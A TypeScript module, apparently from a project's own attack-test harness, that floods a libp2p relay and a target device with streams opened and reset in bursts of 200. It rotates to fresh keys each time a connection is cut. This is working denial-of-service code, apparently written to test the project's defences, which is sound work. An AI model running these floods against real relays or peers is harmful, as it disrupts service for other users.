import { setTimeout as wait } from 'node:timers/promises';
import type { Connection } from '@libp2p/interface';
import { multiaddr } from '@multiformats/multiaddr';
import { CALL_PROTOCOL, LOOKUP_PROTOCOL } from '#lib/protocol/names.ts';
import { withoutEnd } from './attack.ts';
import type { Attack } from './attack.ts';
import { aStranger, deviceOf } from './stranger.ts';

/** Streams that are opened side by side: above the budget of a page, and in frames below that of a relay. */
const AT_ONCE = 200;
/** From one such burst to the next, ms: enough to hear that it was one too many. */
const PAUSE_MS = 50;
/** Strangers that flood the relay side by side: above what one process can do. */
const STRANGERS = 8;

/** Opens streams and resets them at once, as many as it can, until the connection is cut. */
async function resetStreams(connection: Connection, protocol: string): Promise<void> {
  const options = { maxOutboundStreams: Infinity, runOnLimitedConnection: true };
  while (connection.status === 'open') {
    const opened = Array.from({ length: AT_ONCE }, () =>
      connection.newStream(protocol, { ...options, negotiateFully: false }).then(
        (stream) => stream.abort(new Error('reset')),
        () => undefined,
      ),
    );
    await Promise.all(opened);
    await wait(PAUSE_MS);
  }
}

/** One stranger, to the page of the person, on a new circuit whenever the last one was cut. */
export const streamsToPage: Attack = async (target, onCut) => {
  const stranger = await aStranger();
  const device = await deviceOf(stranger, target);
  const page = multiaddr(`${target.relay}/p2p-circuit/p2p/${device.toString()}`);
  await withoutEnd(1, async () => {
    await resetStreams(await stranger.dial(page), CALL_PROTOCOL);
    onCut();
  });
};

/** To the relay itself, under a new key whenever the last one was cut. */
export const streamsToRelay: Attack = ({ relay }, onCut) =>
  withoutEnd(STRANGERS, async () => {
    const stranger = await aStranger();
    try {
      await resetStreams(await stranger.dial(multiaddr(relay)), LOOKUP_PROTOCOL);
      onCut();
    } finally {
      await stranger.stop();
    }
  });
